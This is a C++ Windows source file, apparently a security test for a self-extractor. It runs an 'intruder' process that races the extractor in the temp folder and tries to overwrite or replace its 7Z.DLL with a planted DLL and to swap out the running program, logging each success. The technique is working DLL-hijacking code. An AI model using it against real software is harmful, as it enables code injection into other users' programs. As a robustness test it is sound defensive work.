// Another program of the same user, trying to get its code into a
// self-extractor while it runs: it waits for the program's process, then
// watches the temp folder for work folders and tries to write, rename or
// replace the module in them and to move the folder itself, and tries to
// rename the running program or write to it. Each success while the program
// still runs is a line in REPORT, but for those of its last moments, when it
// lets go of its files as it ends; the last line says how often the module
// was found to attack. It stops when the program has ended or STOP exists.
//   intruder TEMP PROGRAM PLANTED_DLL STOP REPORT
#include <windows.h>
#include <tlhelp32.h>

#include <cstdio>
#include <set>
#include <string>
#include <vector>

namespace {

constexpr ULONGLONG kEndingMs = 150;

HANDLE program = nullptr;
std::set<std::wstring> ownFolders;  // made by the intruder: not the program's

struct Success {
    ULONGLONG at;
    std::wstring line;
};
std::vector<Success> successes;

bool ProgramEnded() { return WaitForSingleObject(program, 0) == WAIT_OBJECT_0; }

void Succeeded(const std::wstring& what, const std::wstring& path) {
    successes.push_back({GetTickCount64(), what + L": " + path});
}

HANDLE FindProcess(const std::wstring& exeName) {
    const HANDLE snapshot = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0);
    if (snapshot == INVALID_HANDLE_VALUE) return nullptr;
    HANDLE found = nullptr;
    PROCESSENTRY32W entry{};
    entry.dwSize = sizeof entry;
    for (BOOL more = Process32FirstW(snapshot, &entry); more && !found; more = Process32NextW(snapshot, &entry))
        if (lstrcmpiW(entry.szExeFile, exeName.c_str()) == 0) found = OpenProcess(SYNCHRONIZE, FALSE, entry.th32ProcessID);
    CloseHandle(snapshot);
    return found;
}

std::wstring FileNameOf(const std::wstring& path) {
    const size_t slash = path.find_last_of(L"\\/");
    return slash == std::wstring::npos ? path : path.substr(slash + 1);
}

bool Exists(const std::wstring& path) { return GetFileAttributesW(path.c_str()) != INVALID_FILE_ATTRIBUTES; }

std::vector<std::wstring> WorkFolders(const std::wstring& temp) {
    std::vector<std::wstring> folders;
    WIN32_FIND_DATAW found;
    const HANDLE find = FindFirstFileW((temp + L"\\_BRSFX*").c_str(), &found);
    if (find == INVALID_HANDLE_VALUE) return folders;
    do {
        const std::wstring folder = temp + L"\\" + found.cFileName;
        if ((found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) && !ownFolders.count(folder)) folders.push_back(folder);
    } while (FindNextFileW(find, &found));
    FindClose(find);
    return folders;
}

std::vector<char> ReadAll(const std::wstring& path) {
    std::vector<char> bytes;
    FILE* in = _wfopen(path.c_str(), L"rb");
    if (!in) return bytes;
    char buffer[65536];
    for (size_t got; (got = std::fread(buffer, 1, sizeof buffer, in)) > 0;) bytes.insert(bytes.end(), buffer, buffer + got);
    std::fclose(in);
    return bytes;
}

bool OpensForWriting(const std::wstring& path, const std::vector<char>& planted) {
    const HANDLE file = CreateFileW(path.c_str(), GENERIC_WRITE, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE,
                                    nullptr, OPEN_EXISTING, FILE_ATTRIBUTE_NORMAL, nullptr);
    if (file == INVALID_HANDLE_VALUE) return false;
    DWORD written = 0;
    WriteFile(file, planted.data(), DWORD(planted.size()), &written, nullptr);
    SetEndOfFile(file);
    CloseHandle(file);
    return true;
}

// Returns whether the module was there to attack.
bool AttackModule(const std::wstring& folder, const std::wstring& planted, const std::vector<char>& plantedBytes) {
    const std::wstring module = folder + L"\\7Z.DLL";
    if (!Exists(module)) return false;
    if (OpensForWriting(module, plantedBytes)) Succeeded(L"module written", module);
    if (MoveFileExW(module.c_str(), (module + L".old").c_str(), 0)) {
        CopyFileW(planted.c_str(), module.c_str(), FALSE);
        Succeeded(L"module replaced", module);
    }
    if (DeleteFileW(module.c_str())) {
        CopyFileW(planted.c_str(), module.c_str(), FALSE);
        Succeeded(L"module deleted and replaced", module);
    }
    if (MoveFileExW(folder.c_str(), (folder + L"-moved").c_str(), 0)) {
        ownFolders.insert(folder + L"-moved");
        ownFolders.insert(folder);
        CreateDirectoryW(folder.c_str(), nullptr);
        CopyFileW(planted.c_str(), module.c_str(), FALSE);
        Succeeded(L"work folder replaced", folder);
    }
    return true;
}

void AttackProgram(const std::wstring& path, const std::wstring& planted) {
    if (OpensForWriting(path, {})) Succeeded(L"program opened for writing", path);
    if (MoveFileExW(path.c_str(), (path + L".moved").c_str(), 0)) {
        CopyFileW(planted.c_str(), path.c_str(), FALSE);
        Succeeded(L"program renamed and replaced", path);
    }
}

}  // namespace

int wmain(int argc, wchar_t** argv) {
    if (argc != 6) return 2;
    const std::wstring temp = argv[1], programPath = argv[2], planted = argv[3], stop = argv[4];
    FILE* report = _wfopen(argv[5], L"w");
    if (!report) return 2;
    const std::vector<char> plantedBytes = ReadAll(planted);
    while (!program && !Exists(stop)) program = FindProcess(FileNameOf(programPath));
    long modulesSeen = 0;
    while (program && !ProgramEnded()) {
        const std::vector<std::wstring> folders = WorkFolders(temp);
        for (const std::wstring& folder : folders)
            if (AttackModule(folder, planted, plantedBytes)) ++modulesSeen;
        if (!folders.empty()) AttackProgram(programPath, planted);
    }
    const ULONGLONG ended = GetTickCount64();
    for (const Success& s : successes)
        if (s.at + kEndingMs < ended) std::fwprintf(report, L"%ls\n", s.line.c_str());
    std::fwprintf(report, L"module seen %ld times\n", modulesSeen);
    return std::fclose(report) == 0 ? 0 : 2;
}
